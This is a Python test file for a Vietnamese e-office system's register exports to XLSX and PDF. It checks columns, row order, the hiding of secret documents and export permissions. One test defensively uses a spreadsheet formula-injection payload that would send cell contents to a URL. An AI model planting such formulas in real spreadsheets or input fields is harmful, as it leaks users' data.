"""Sổ đăng ký văn bản đến / đi exported as XLSX (read back with openpyxl) and PDF (read back with
pypdfium2): the decree's columns, the rows in register order, Vietnamese text intact, the read rule, and
who may export."""

from __future__ import annotations

import io
import os
import re
from datetime import date, datetime
from typing import Any
from urllib.parse import unquote
from zoneinfo import ZoneInfo

import pypdfium2 as pdfium
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from eoffice.backends import Backends
from eoffice.reports.pdf import soffice_path
from tests.eoffice.factories import login
from tests.eoffice.reports.conftest import Office, build_outgoing, register

HEADER_ROW = 8
INCOMING_HEADERS = [
    "Ngày đến",
    "Số đến",
    "Tác giả",
    "Số, ký hiệu",
    "Ngày tháng",
    "Tên loại và trích yếu nội dung",
    "Đơn vị hoặc người nhận",
    "Ký nhận",
    "Ghi chú",
]
OUTGOING_HEADERS = [
    "Số, ký hiệu văn bản",
    "Ngày tháng văn bản",
    "Tên loại và trích yếu nội dung",
    "Người ký",
    "Nơi nhận văn bản",
    "Đơn vị, người nhận bản lưu",
    "Số lượng bản",
    "Ngày chuyển",
    "Ký nhận",
    "Ghi chú",
]
OUTGOING_TITLES = [
    "Về việc ban hành Quy chế công tác văn thư điện tử",
    "Về việc thành lập Tổ công tác số hóa",
]


@pytest.fixture(scope="module")
def registers(api: TestClient, office: Office, backends: Backends) -> dict[str, dict[str, Any]]:
    """The agency's registers of this year, after the outgoing documents were released."""
    build_outgoing(api, office, backends, OUTGOING_TITLES)
    response = api.get(
        "/api/v1/reports/registers", params={"year": office.today.year}, headers=login(api, office.clerk)
    )
    assert response.status_code == 200, response.text
    mine = [r for r in response.json() if r["agency_id"] == office.agency.id]
    return {r["kind"]: r for r in mine}


def _export(
    client: TestClient, user: Any, register: dict[str, Any], status: int = 200, /, **params: Any
) -> Any:
    response = client.get(register["export_path"], params=params, headers=login(client, user))
    assert response.status_code == status, response.text
    return response


def _sheet(content: bytes) -> Worksheet:
    sheet = load_workbook(io.BytesIO(content)).active
    assert isinstance(sheet, Worksheet)
    return sheet


def _rows(sheet: Worksheet) -> list[tuple[Any, ...]]:
    return [tuple(row) for row in sheet.iter_rows(min_row=HEADER_ROW + 1, values_only=True)]


def _day(value: Any) -> date:
    assert isinstance(value, datetime), value  # openpyxl reads date cells back as datetimes
    return value.date()


def _arrived(doc: dict[str, Any], office: Office) -> date:
    return datetime.fromisoformat(doc["arrived_at"]).astimezone(ZoneInfo(office.timezone)).date()


def test_incoming_register_as_xlsx(api: TestClient, office: Office, registers: dict[str, Any]) -> None:
    response = _export(api, office.clerk, registers["incoming"])
    assert (
        response.headers["content-type"]
        == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment;")
    name = unquote(re.search(r"filename\*=UTF-8''(\S+)", disposition)[1])  # type: ignore[index]
    assert name == f"Sổ đăng ký văn bản đến 01.01.{office.today.year}-31.12.{office.today.year}.xlsx"

    sheet = _sheet(response.content)
    assert sheet["A1"].value == "ỦY BAN NHÂN DÂN TỈNH DEMO"
    assert sheet["A2"].value == office.agency.name.upper()
    assert sheet["A4"].value == "SỔ ĐĂNG KÝ VĂN BẢN ĐẾN"
    assert sheet["A5"].value == f"Năm {office.today.year}"
    assert (
        sheet["A6"].value
        == f"Từ ngày 01 tháng 01 năm {office.today.year} đến ngày 31 tháng 12 năm {office.today.year}"
    )
    assert [c.value for c in sheet[HEADER_ROW]] == INCOMING_HEADERS
    assert sheet.page_setup.orientation == "landscape" and int(sheet.page_setup.paperSize) == 9  # A4
    assert sheet["A9"].font.name == "Times New Roman"

    # every document of this year's register, in arrival-number order; last year's is in last year's sổ
    docs = office.docs
    expected = sorted(
        (d for key, d in docs.items() if key not in ("last_year",) and not key.startswith("out")),
        key=lambda d: d["register_number"],
    )
    rows = _rows(sheet)
    assert [r[1] for r in rows] == [d["register_number"] for d in expected]
    assert sheet.cell(HEADER_ROW + 1, 2).number_format == "00"
    assert all(sheet.cell(HEADER_ROW + 1 + i, 1).number_format == "dd/mm/yyyy" for i in range(len(rows)))

    by_number = {r[1]: r for r in rows}
    on_time = by_number[docs["on_time"]["register_number"]]
    assert _day(on_time[0]) == _arrived(docs["on_time"], office)
    assert on_time[2:4] == ("Sở Nội vụ", "101/SNV-CCHC")
    assert _day(on_time[4]) == date.fromisoformat(docs["on_time"]["issue_date"])
    assert on_time[5] == "Công văn: V/v triển khai cải cách hành chính năm 2026"
    # main unit first, then the cooperating units in Vietnamese order (Đ before T); the informed clerk not
    assert on_time[6] == "Phòng Nội vụ; Phòng Đào tạo (phối hợp); Phòng Tài chính (phối hợp)"
    assert on_time[7] is None and on_time[8] == "Khẩn"
    late = by_number[docs["late"]["register_number"]]
    assert late[2:4] == ("Sở Tài chính", "57/STC-NS") and late[5].startswith("Thông báo: V/v báo cáo")
    assert by_number[docs["recalled"]["register_number"]][8] == "Đã thu hồi"
    # the văn thư registered the secret document and sees it whole
    secret = by_number[docs["secret"]["register_number"]]
    assert secret[5] == "Công văn: V/v kế hoạch bảo vệ bí mật nhà nước" and secret[8] == "Mật"
    assert secret[6] == office.specialist.full_name


def test_rows_the_caller_may_not_read_keep_only_their_number(
    api: TestClient, office: Office, registers: dict[str, Any]
) -> None:
    rows = {r[1]: r for r in _rows(_sheet(_export(api, office.leader, registers["incoming"]).content))}
    secret = rows[office.docs["secret"]["register_number"]]
    assert _day(secret[0]) == _arrived(office.docs["secret"], office)
    assert secret[2:8] == (None, None, None, None, None, None)
    assert secret[8] == "Văn bản mật, không hiển thị nội dung"
    assert "bí mật" not in " ".join(str(cell) for row in rows.values() for cell in row)
    assert rows[office.docs["on_time"]["register_number"]][3] == "101/SNV-CCHC"


def test_a_period_selects_rows_by_arrival_day(
    api: TestClient, office: Office, registers: dict[str, Any]
) -> None:
    day = _arrived(office.docs["unassigned"], office)
    response = _export(api, office.clerk, registers["incoming"], **{"from": str(day), "to": str(day)})
    sheet = _sheet(response.content)
    expected = sorted(
        d["register_number"]
        for key, d in office.docs.items()
        if not key.startswith("out") and key != "last_year" and _arrived(d, office) == day
    )
    assert [r[1] for r in _rows(sheet)] == expected and office.docs["unassigned"][
        "register_number"
    ] in expected
    assert sheet["A6"].value.startswith("Từ ngày ")


def test_outgoing_register_as_xlsx(api: TestClient, office: Office, registers: dict[str, Any]) -> None:
    sheet = _sheet(_export(api, office.leader, registers["outgoing"], format="xlsx").content)
    assert sheet["A4"].value == "SỔ ĐĂNG KÝ VĂN BẢN ĐI"
    assert [c.value for c in sheet[HEADER_ROW]] == OUTGOING_HEADERS
    rows = _rows(sheet)
    released = [office.docs["out0"], office.docs["out1"]]
    assert [r[0] for r in rows] == [d["number_symbol"] for d in released]
    assert [r[2] for r in rows] == [f"Quyết định: {title}" for title in OUTGOING_TITLES]
    first = rows[0]
    assert re.fullmatch(r"\d{2,}/QĐ-UBND", first[0])
    assert _day(first[1]) == date.fromisoformat(released[0]["issue_date"])
    assert first[3] == "Trần Thị Bình"
    # recipients in Vietnamese order: B, Đ, S, Ủ (code points would put Đ and Ủ last)
    assert first[4] == "; ".join(
        ["Bộ Nội vụ", "Đài Phát thanh và Truyền hình tỉnh", "Sở Tài chính", office.other_agency.name]
    )
    assert first[5] == "Phòng Nội vụ" and first[6] == 4
    released_day = datetime.fromisoformat(released[0]["completed_at"]).astimezone(ZoneInfo(office.timezone))
    assert _day(first[7]) == released_day.date()
    assert first[8] is None and first[9] is None


@pytest.mark.skipif(
    soffice_path() is None and os.environ.get("EOFFICE_REQUIRE_SERVICES") != "1",
    reason="LibreOffice (soffice) không có trên máy này",
)
def test_incoming_register_as_pdf(api: TestClient, office: Office, registers: dict[str, Any]) -> None:
    response = _export(api, office.leader, registers["incoming"], format="pdf")
    assert response.headers["content-type"] == "application/pdf"
    assert "filename*=UTF-8''S%E1%BB%95%20%C4%91%C4%83ng%20k%C3%BD" in response.headers["content-disposition"]
    pdf = pdfium.PdfDocument(response.content)
    try:
        width, height = pdf[0].get_size()
        assert width > height  # A4 landscape
        assert round(width / 72 * 25.4) == 297 and round(height / 72 * 25.4) == 210
        text = " ".join(" ".join(pdf[i].get_textpage().get_text_range().split()) for i in range(len(pdf)))
    finally:
        pdf.close()
    assert "SỔ ĐĂNG KÝ VĂN BẢN ĐẾN" in text and office.agency.name.upper() in text
    assert "101/SNV-CCHC" in text and "57/STC-NS" in text
    assert "V/v triển khai cải cách hành chính năm 2026" in text
    assert _arrived(office.docs["on_time"], office).strftime("%d/%m/%Y") in text
    assert "bí mật nhà nước" not in text  # the leader may not read the secret document


def test_who_may_export(api: TestClient, office: Office, registers: dict[str, Any]) -> None:
    incoming = registers["incoming"]
    for user in (office.specialist, office.head):
        refused = _export(api, user, incoming, 403)
        assert refused.json()["code"] == "report.export_forbidden" and refused.json()["message"]
    assert _export(api, office.outsider, incoming, 404).json()["code"] == "report.register_not_found"
    assert _export(api, office.admin, incoming).status_code == 200
    missing = {"export_path": "/api/v1/reports/registers/999999/export"}
    assert _export(api, office.clerk, missing, 404).json()["code"] == "report.register_not_found"
    bad = _export(api, office.clerk, incoming, 422, format="docx")
    assert bad.json()["code"] == "invalid_input"
    backwards = _export(api, office.clerk, incoming, 422, **{"from": "2026-03-02", "to": "2026-03-01"})
    assert backwards.json()["code"] == "report.invalid_period"
    # the outsider's own list shows only their agency's registers
    listed = api.get("/api/v1/reports/registers", headers=login(api, office.outsider)).json()
    assert {r["agency_id"] for r in listed} == {office.other_agency.id}
    assert api.get("/api/v1/reports/registers", headers=login(api, office.specialist)).json() == []


def test_text_that_looks_like_a_formula_stays_text(
    api: TestClient, office: Office, registers: dict[str, Any]
) -> None:
    """A sender's name or trích yếu such as `=WEBSERVICE(…)` must not become a live formula in the sheet."""
    formula = '=WEBSERVICE("http://127.0.0.1:9/leak?"&A1)'
    register(api, login(api, office.clerk), title=formula, issuer=formula)
    sheet = _sheet(_export(api, office.clerk, registers["incoming"]).content)
    cells = [c for row in sheet.iter_rows(min_row=HEADER_ROW + 1) for c in row if c.value == formula]
    assert cells, "the sender's name is written as it came"
    assert all(c.data_type == "s" for c in cells)
